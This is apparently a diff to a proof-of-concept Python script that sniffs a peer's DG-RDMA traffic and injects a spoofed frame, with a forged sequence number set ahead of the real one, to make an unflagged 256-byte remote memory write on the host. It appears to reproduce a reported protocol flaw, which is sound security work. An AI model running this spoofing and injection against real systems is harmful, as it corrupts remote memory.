@@ -4,8 +4,10 @@
 
 Watches the sender's DG-RDMA frames until AFTER of them went by, then sends the host one
 well-formed frame from the sender's address (UDP: its ADDR:PORT through a raw IPv4 socket;
-Ethernet: its MAC, from its own namespace) carrying the next frame_seq it expects and a
-256-byte write without a flag at DATA_ADDR. Prints {"seq": N, "data_addr": A} (JSON).
+Ethernet: its MAC, from its own namespace) carrying a frame_seq AHEAD past the last one seen
+(new to the host when it arrives, and taken before the sender's real frame of that number,
+however late this script is: the order of the issue) and a 256-byte write without a flag at
+DATA_ADDR. Prints {"seq": N, "data_addr": A} (JSON).
 Needs root (raw sockets).
 """
 import argparse
@@ -59,6 +61,8 @@ def forge():
     p.add_argument("--id", type=int, default=0, help="the host's endpoint id")
     p.add_argument("--peer-id", type=int, default=1, help="the sender's endpoint id")
     p.add_argument("--after", type=int, default=200, help="frames of the sender's to let by")
+    p.add_argument("--ahead", type=int, default=200,
+                   help="frame_seq = the last seen + AHEAD (1..1000: inside the host's window)")
     p.add_argument("--data-addr", type=lambda v: int(v, 0), required=True)
     p.add_argument("--txn-id", type=lambda v: int(v, 0), default=0x7FFF0000)
     p.add_argument("--timeout", type=float, default=20.0,
@@ -82,7 +86,7 @@ def forge():
             if seq is not None:
                 seen += 1
                 last = seq
-        seq = (last + 1) & 0xFFFF
+        seq = (last + a.ahead) & 0xFFFF
         data = b"\x00\x00" + forged_frame(a, seq)
         udp = struct.pack("!HHHH", src[1], dst[1], 8 + len(data), 0) + data
         ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
@@ -102,7 +106,7 @@ def forge():
                 continue
             seen += 1
             last = struct.unpack("<H", pkt[14 + 4:14 + 6])[0]
-        seq = (last + 1) & 0xFFFF
+        seq = (last + a.ahead) & 0xFFFF
         dst_mac = bytes.fromhex(a.dst_mac.replace(":", ""))
         s.send(dst_mac + own + struct.pack("!H", ETH_DGRDMA) + forged_frame(a, seq))
     print(json.dumps({"seq": seq, "data_addr": a.data_addr}))
